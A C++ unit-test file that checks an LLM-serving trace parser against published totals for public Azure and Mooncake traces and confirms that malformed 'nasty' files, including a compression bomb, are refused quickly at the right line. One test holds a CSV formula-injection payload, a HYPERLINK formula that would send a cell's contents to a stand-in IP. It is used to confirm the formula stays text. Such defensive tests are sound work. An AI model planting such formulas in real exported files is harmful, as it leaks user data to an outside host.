// The public traces and the nasty files of the shared data: exact totals, and every refusal within a second.
#include <gmock/gmock.h>

#include <chrono>

#include "tests/unit/workload/trace_files.hpp"

namespace mtok::workload {
namespace {

using testing_files::shared_data;

class PublicTraces : public testing::Test {
 protected:
  void SetUp() override {
    if (shared_data().empty()) {
      GTEST_SKIP() << "skipped: no shared data";
    }
  }
  static TraceSummary summary_of(const char* name) { return summarize(shared_data() / "traces" / name, {}); }
};

// Totals as counted by the README of the traces, from the same files with other tools.
TEST_F(PublicTraces, AzureConversationHasItsPublishedTotals) {
  const TraceSummary s = summary_of("azure_llm_2023_conv.csv");
  EXPECT_EQ(s.format, TraceFormat::azure);
  EXPECT_EQ(s.requests, 19366);
  EXPECT_EQ(s.input_tokens, 22'361'870);
  EXPECT_EQ(s.output_tokens, 4'088'665);
  // 18:15:46.6805900 to 19:14:08.4025270: 58 min 21.7219370 s = 3501.721937 s
  EXPECT_EQ(s.last_arrival_ns, 3'501'721'937'000);
}

TEST_F(PublicTraces, AzureCodeHasItsPublishedTotals) {
  const TraceSummary s = summary_of("azure_llm_2023_code.csv");
  EXPECT_EQ(s.requests, 8819);
  EXPECT_EQ(s.input_tokens, 18'059'974);
  EXPECT_EQ(s.output_tokens, 245'896);
  EXPECT_NEAR(static_cast<double>(s.last_arrival_ns) * 1e-9, 3435.95, 0.005);
}

TEST_F(PublicTraces, MooncakeHasItsPublishedPrefixReuse) {
  const TraceSummary s = summary_of("mooncake_fast25_conversation.jsonl.zst");
  EXPECT_EQ(s.format, TraceFormat::mooncake);
  EXPECT_EQ(s.requests, 12031);
  EXPECT_EQ(s.last_arrival_ns, 3'536'999'000'000);
  EXPECT_EQ(s.hash_blocks, 288'500);
  EXPECT_EQ(s.unbounded_prefix_hits, 105'710);
  EXPECT_EQ(s.skipped.failed, 0);
}

TEST_F(PublicTraces, LlmServingSimFilesHaveTheirRows) {
  const TraceSummary mixed = summary_of("llmservingsim_mixed_608.jsonl");
  EXPECT_EQ(mixed.format, TraceFormat::llmservingsim);
  EXPECT_EQ(mixed.requests, 608);
  EXPECT_EQ(mixed.last_arrival_ns, 61'000'000'000 - 101'537'000);  // its last row less its first
  EXPECT_NEAR(static_cast<double>(mixed.input_tokens) / 608, 9217.8, 0.05);
  EXPECT_NEAR(static_cast<double>(mixed.output_tokens) / 608, 3021.4, 0.05);
  const TraceSummary tokens = summary_of("sharegpt_tokens_300_llama31_sps10.jsonl.zst");
  EXPECT_EQ(tokens.requests, 300);
  EXPECT_NEAR(static_cast<double>(tokens.input_tokens) / 300, 857.5, 0.05);
}

TEST_F(PublicTraces, LengthOnlyFilesAreRefusedAsSuch) {
  for (const char* name : {"lengths_sharegpt_8k.csv.zst", "lengths_bwb_4k.csv.zst"}) {
    EXPECT_THAT(testing_files::error_of(shared_data() / "traces" / name).message,
                testing::HasSubstr("no arrival times"));
  }
}

struct NastyFile {
  std::string name{};
  TraceFormat format{};
  bool accepted = false;
};

/// The rows of index.csv that are traces. Their first three cells are never quoted.
std::vector<NastyFile> nasty_traces() {
  std::vector<NastyFile> files;
  std::ifstream index(shared_data() / "nasty" / "index.csv");
  for (std::string line; std::getline(index, line);) {
    const std::size_t first = line.find(',');
    const std::size_t second = line.find(',', first + 1);
    const std::string kind = line.substr(first + 1, second - first - 1);
    if (kind.starts_with("trace_")) {
      const TraceFormat format = kind.ends_with("_azure")      ? TraceFormat::azure
                                 : kind.ends_with("_burstgpt") ? TraceFormat::burstgpt
                                                               : TraceFormat::mooncake;
      files.push_back({line.substr(0, first), format, line.substr(second + 1).starts_with("accept")});
    }
  }
  return files;
}

TEST_F(PublicTraces, NastyFilesAreReadOrRefusedAsTheirIndexSays) {
  const std::vector<NastyFile> files = nasty_traces();
  EXPECT_EQ(files.size(), 15U);
  for (const NastyFile& file : files) {
    const auto path = shared_data() / "nasty" / file.name;
    for (const TraceOptions& options : {TraceOptions{}, TraceOptions{.format = file.format}}) {
      const auto start = std::chrono::steady_clock::now();
      const config::Diagnostic error = testing_files::error_of(path, options);
      const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
      EXPECT_EQ(error.message.empty(), file.accepted) << file.name << ": " << error.message;
      EXPECT_TRUE(file.accepted || error.at.line > 0) << file.name << " is refused without a line";
      EXPECT_LT(took.count(), 1.0) << file.name;
    }
  }
}

TEST_F(PublicTraces, NastyFilesAreRefusedAtTheRightPlace) {
  const auto place = [](const char* name) {
    return testing_files::error_of(shared_data() / "nasty" / name).at;
  };
  EXPECT_EQ(place("c02_negative_tokens.csv"), (config::Position{3, 29}));
  EXPECT_EQ(place("c03_short_row.csv").line, 3);
  EXPECT_EQ(place("c05_open_quote.csv"), (config::Position{2, 1}));
  EXPECT_EQ(place("c06_overflow.csv"), (config::Position{2, 29}));
  EXPECT_EQ(place("c07_bad_date.csv"), (config::Position{2, 1}));
  EXPECT_EQ(place("c09_total_mismatch.csv"), (config::Position{2, 18}));
  EXPECT_EQ(place("j02_truncated.jsonl").line, 2);
  EXPECT_EQ(place("j03_nan.jsonl"), (config::Position{2, 15}));
  EXPECT_EQ(place("j06_bomb.jsonl.gz").line, 1);
}

TEST_F(PublicTraces, AFormulaStaysTextOnImport) {
  const auto requests = testing_files::read_all(shared_data() / "nasty" / "c08_formula.csv");
  ASSERT_EQ(requests.size(), 1U);
  EXPECT_EQ(requests[0].model, "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")");
}

}  // namespace
}  // namespace mtok::workload
